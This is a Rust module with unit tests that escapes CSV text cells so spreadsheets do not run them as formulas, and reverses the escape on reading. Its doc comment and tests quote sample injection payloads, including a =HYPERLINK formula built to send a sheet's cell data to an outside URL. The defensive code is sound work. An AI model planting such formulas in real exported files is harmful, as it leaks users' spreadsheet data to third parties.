//! Text cells of a CSV as a spreadsheet reads them. A spreadsheet runs a
//! cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return)
//! as a formula: a note `=HYPERLINK("http://…?"&A1;"klik")` would become a
//! link that sends the sheet's data away, and the note `=1+1` would read
//! back as `2`. Daduk writes such a cell with a leading `'` (the spreadsheet
//! convention for "this is text") and takes exactly that `'` off when it
//! reads the CSV back, so every text makes the round trip unchanged.

use std::borrow::Cow;

/// What a spreadsheet may take as the start of a formula.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, after any `'` it starts with, starts like a formula.
/// Counting the `'`s makes the escape reversible: `'=x` (a text that
/// already starts with the mark) is written `''=x`.
fn looks_like_formula(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// A text cell as written to a CSV: one `'` in front when it could be
/// taken for a formula.
pub fn escape(text: &str) -> Cow<'_, str> {
    if looks_like_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text cell as read from a CSV: the `'` [`escape`] put in front taken
/// off, nothing else.
pub fn unescape(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if looks_like_formula(rest) => rest,
        _ => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text_and_read_back_unchanged() {
        let cases = [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"http://x\";\"klik\")",
                "'=HYPERLINK(\"http://x\";\"klik\")",
            ),
            ("+62 812 3456", "'+62 812 3456"),
            ("-5 dari target", "'-5 dari target"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1+1", "''=1+1"),
            ("''@x", "'''@x"),
            ("'biasa", "'biasa"),
            ("'", "'"),
            ("SK Tim = 12/2024", "SK Tim = 12/2024"),
            ("biasa", "biasa"),
            ("", ""),
        ];
        for (text, written) in cases {
            assert_eq!(escape(text), written, "{text:?}");
            assert_eq!(unescape(written), text, "{written:?}");
        }
    }
}
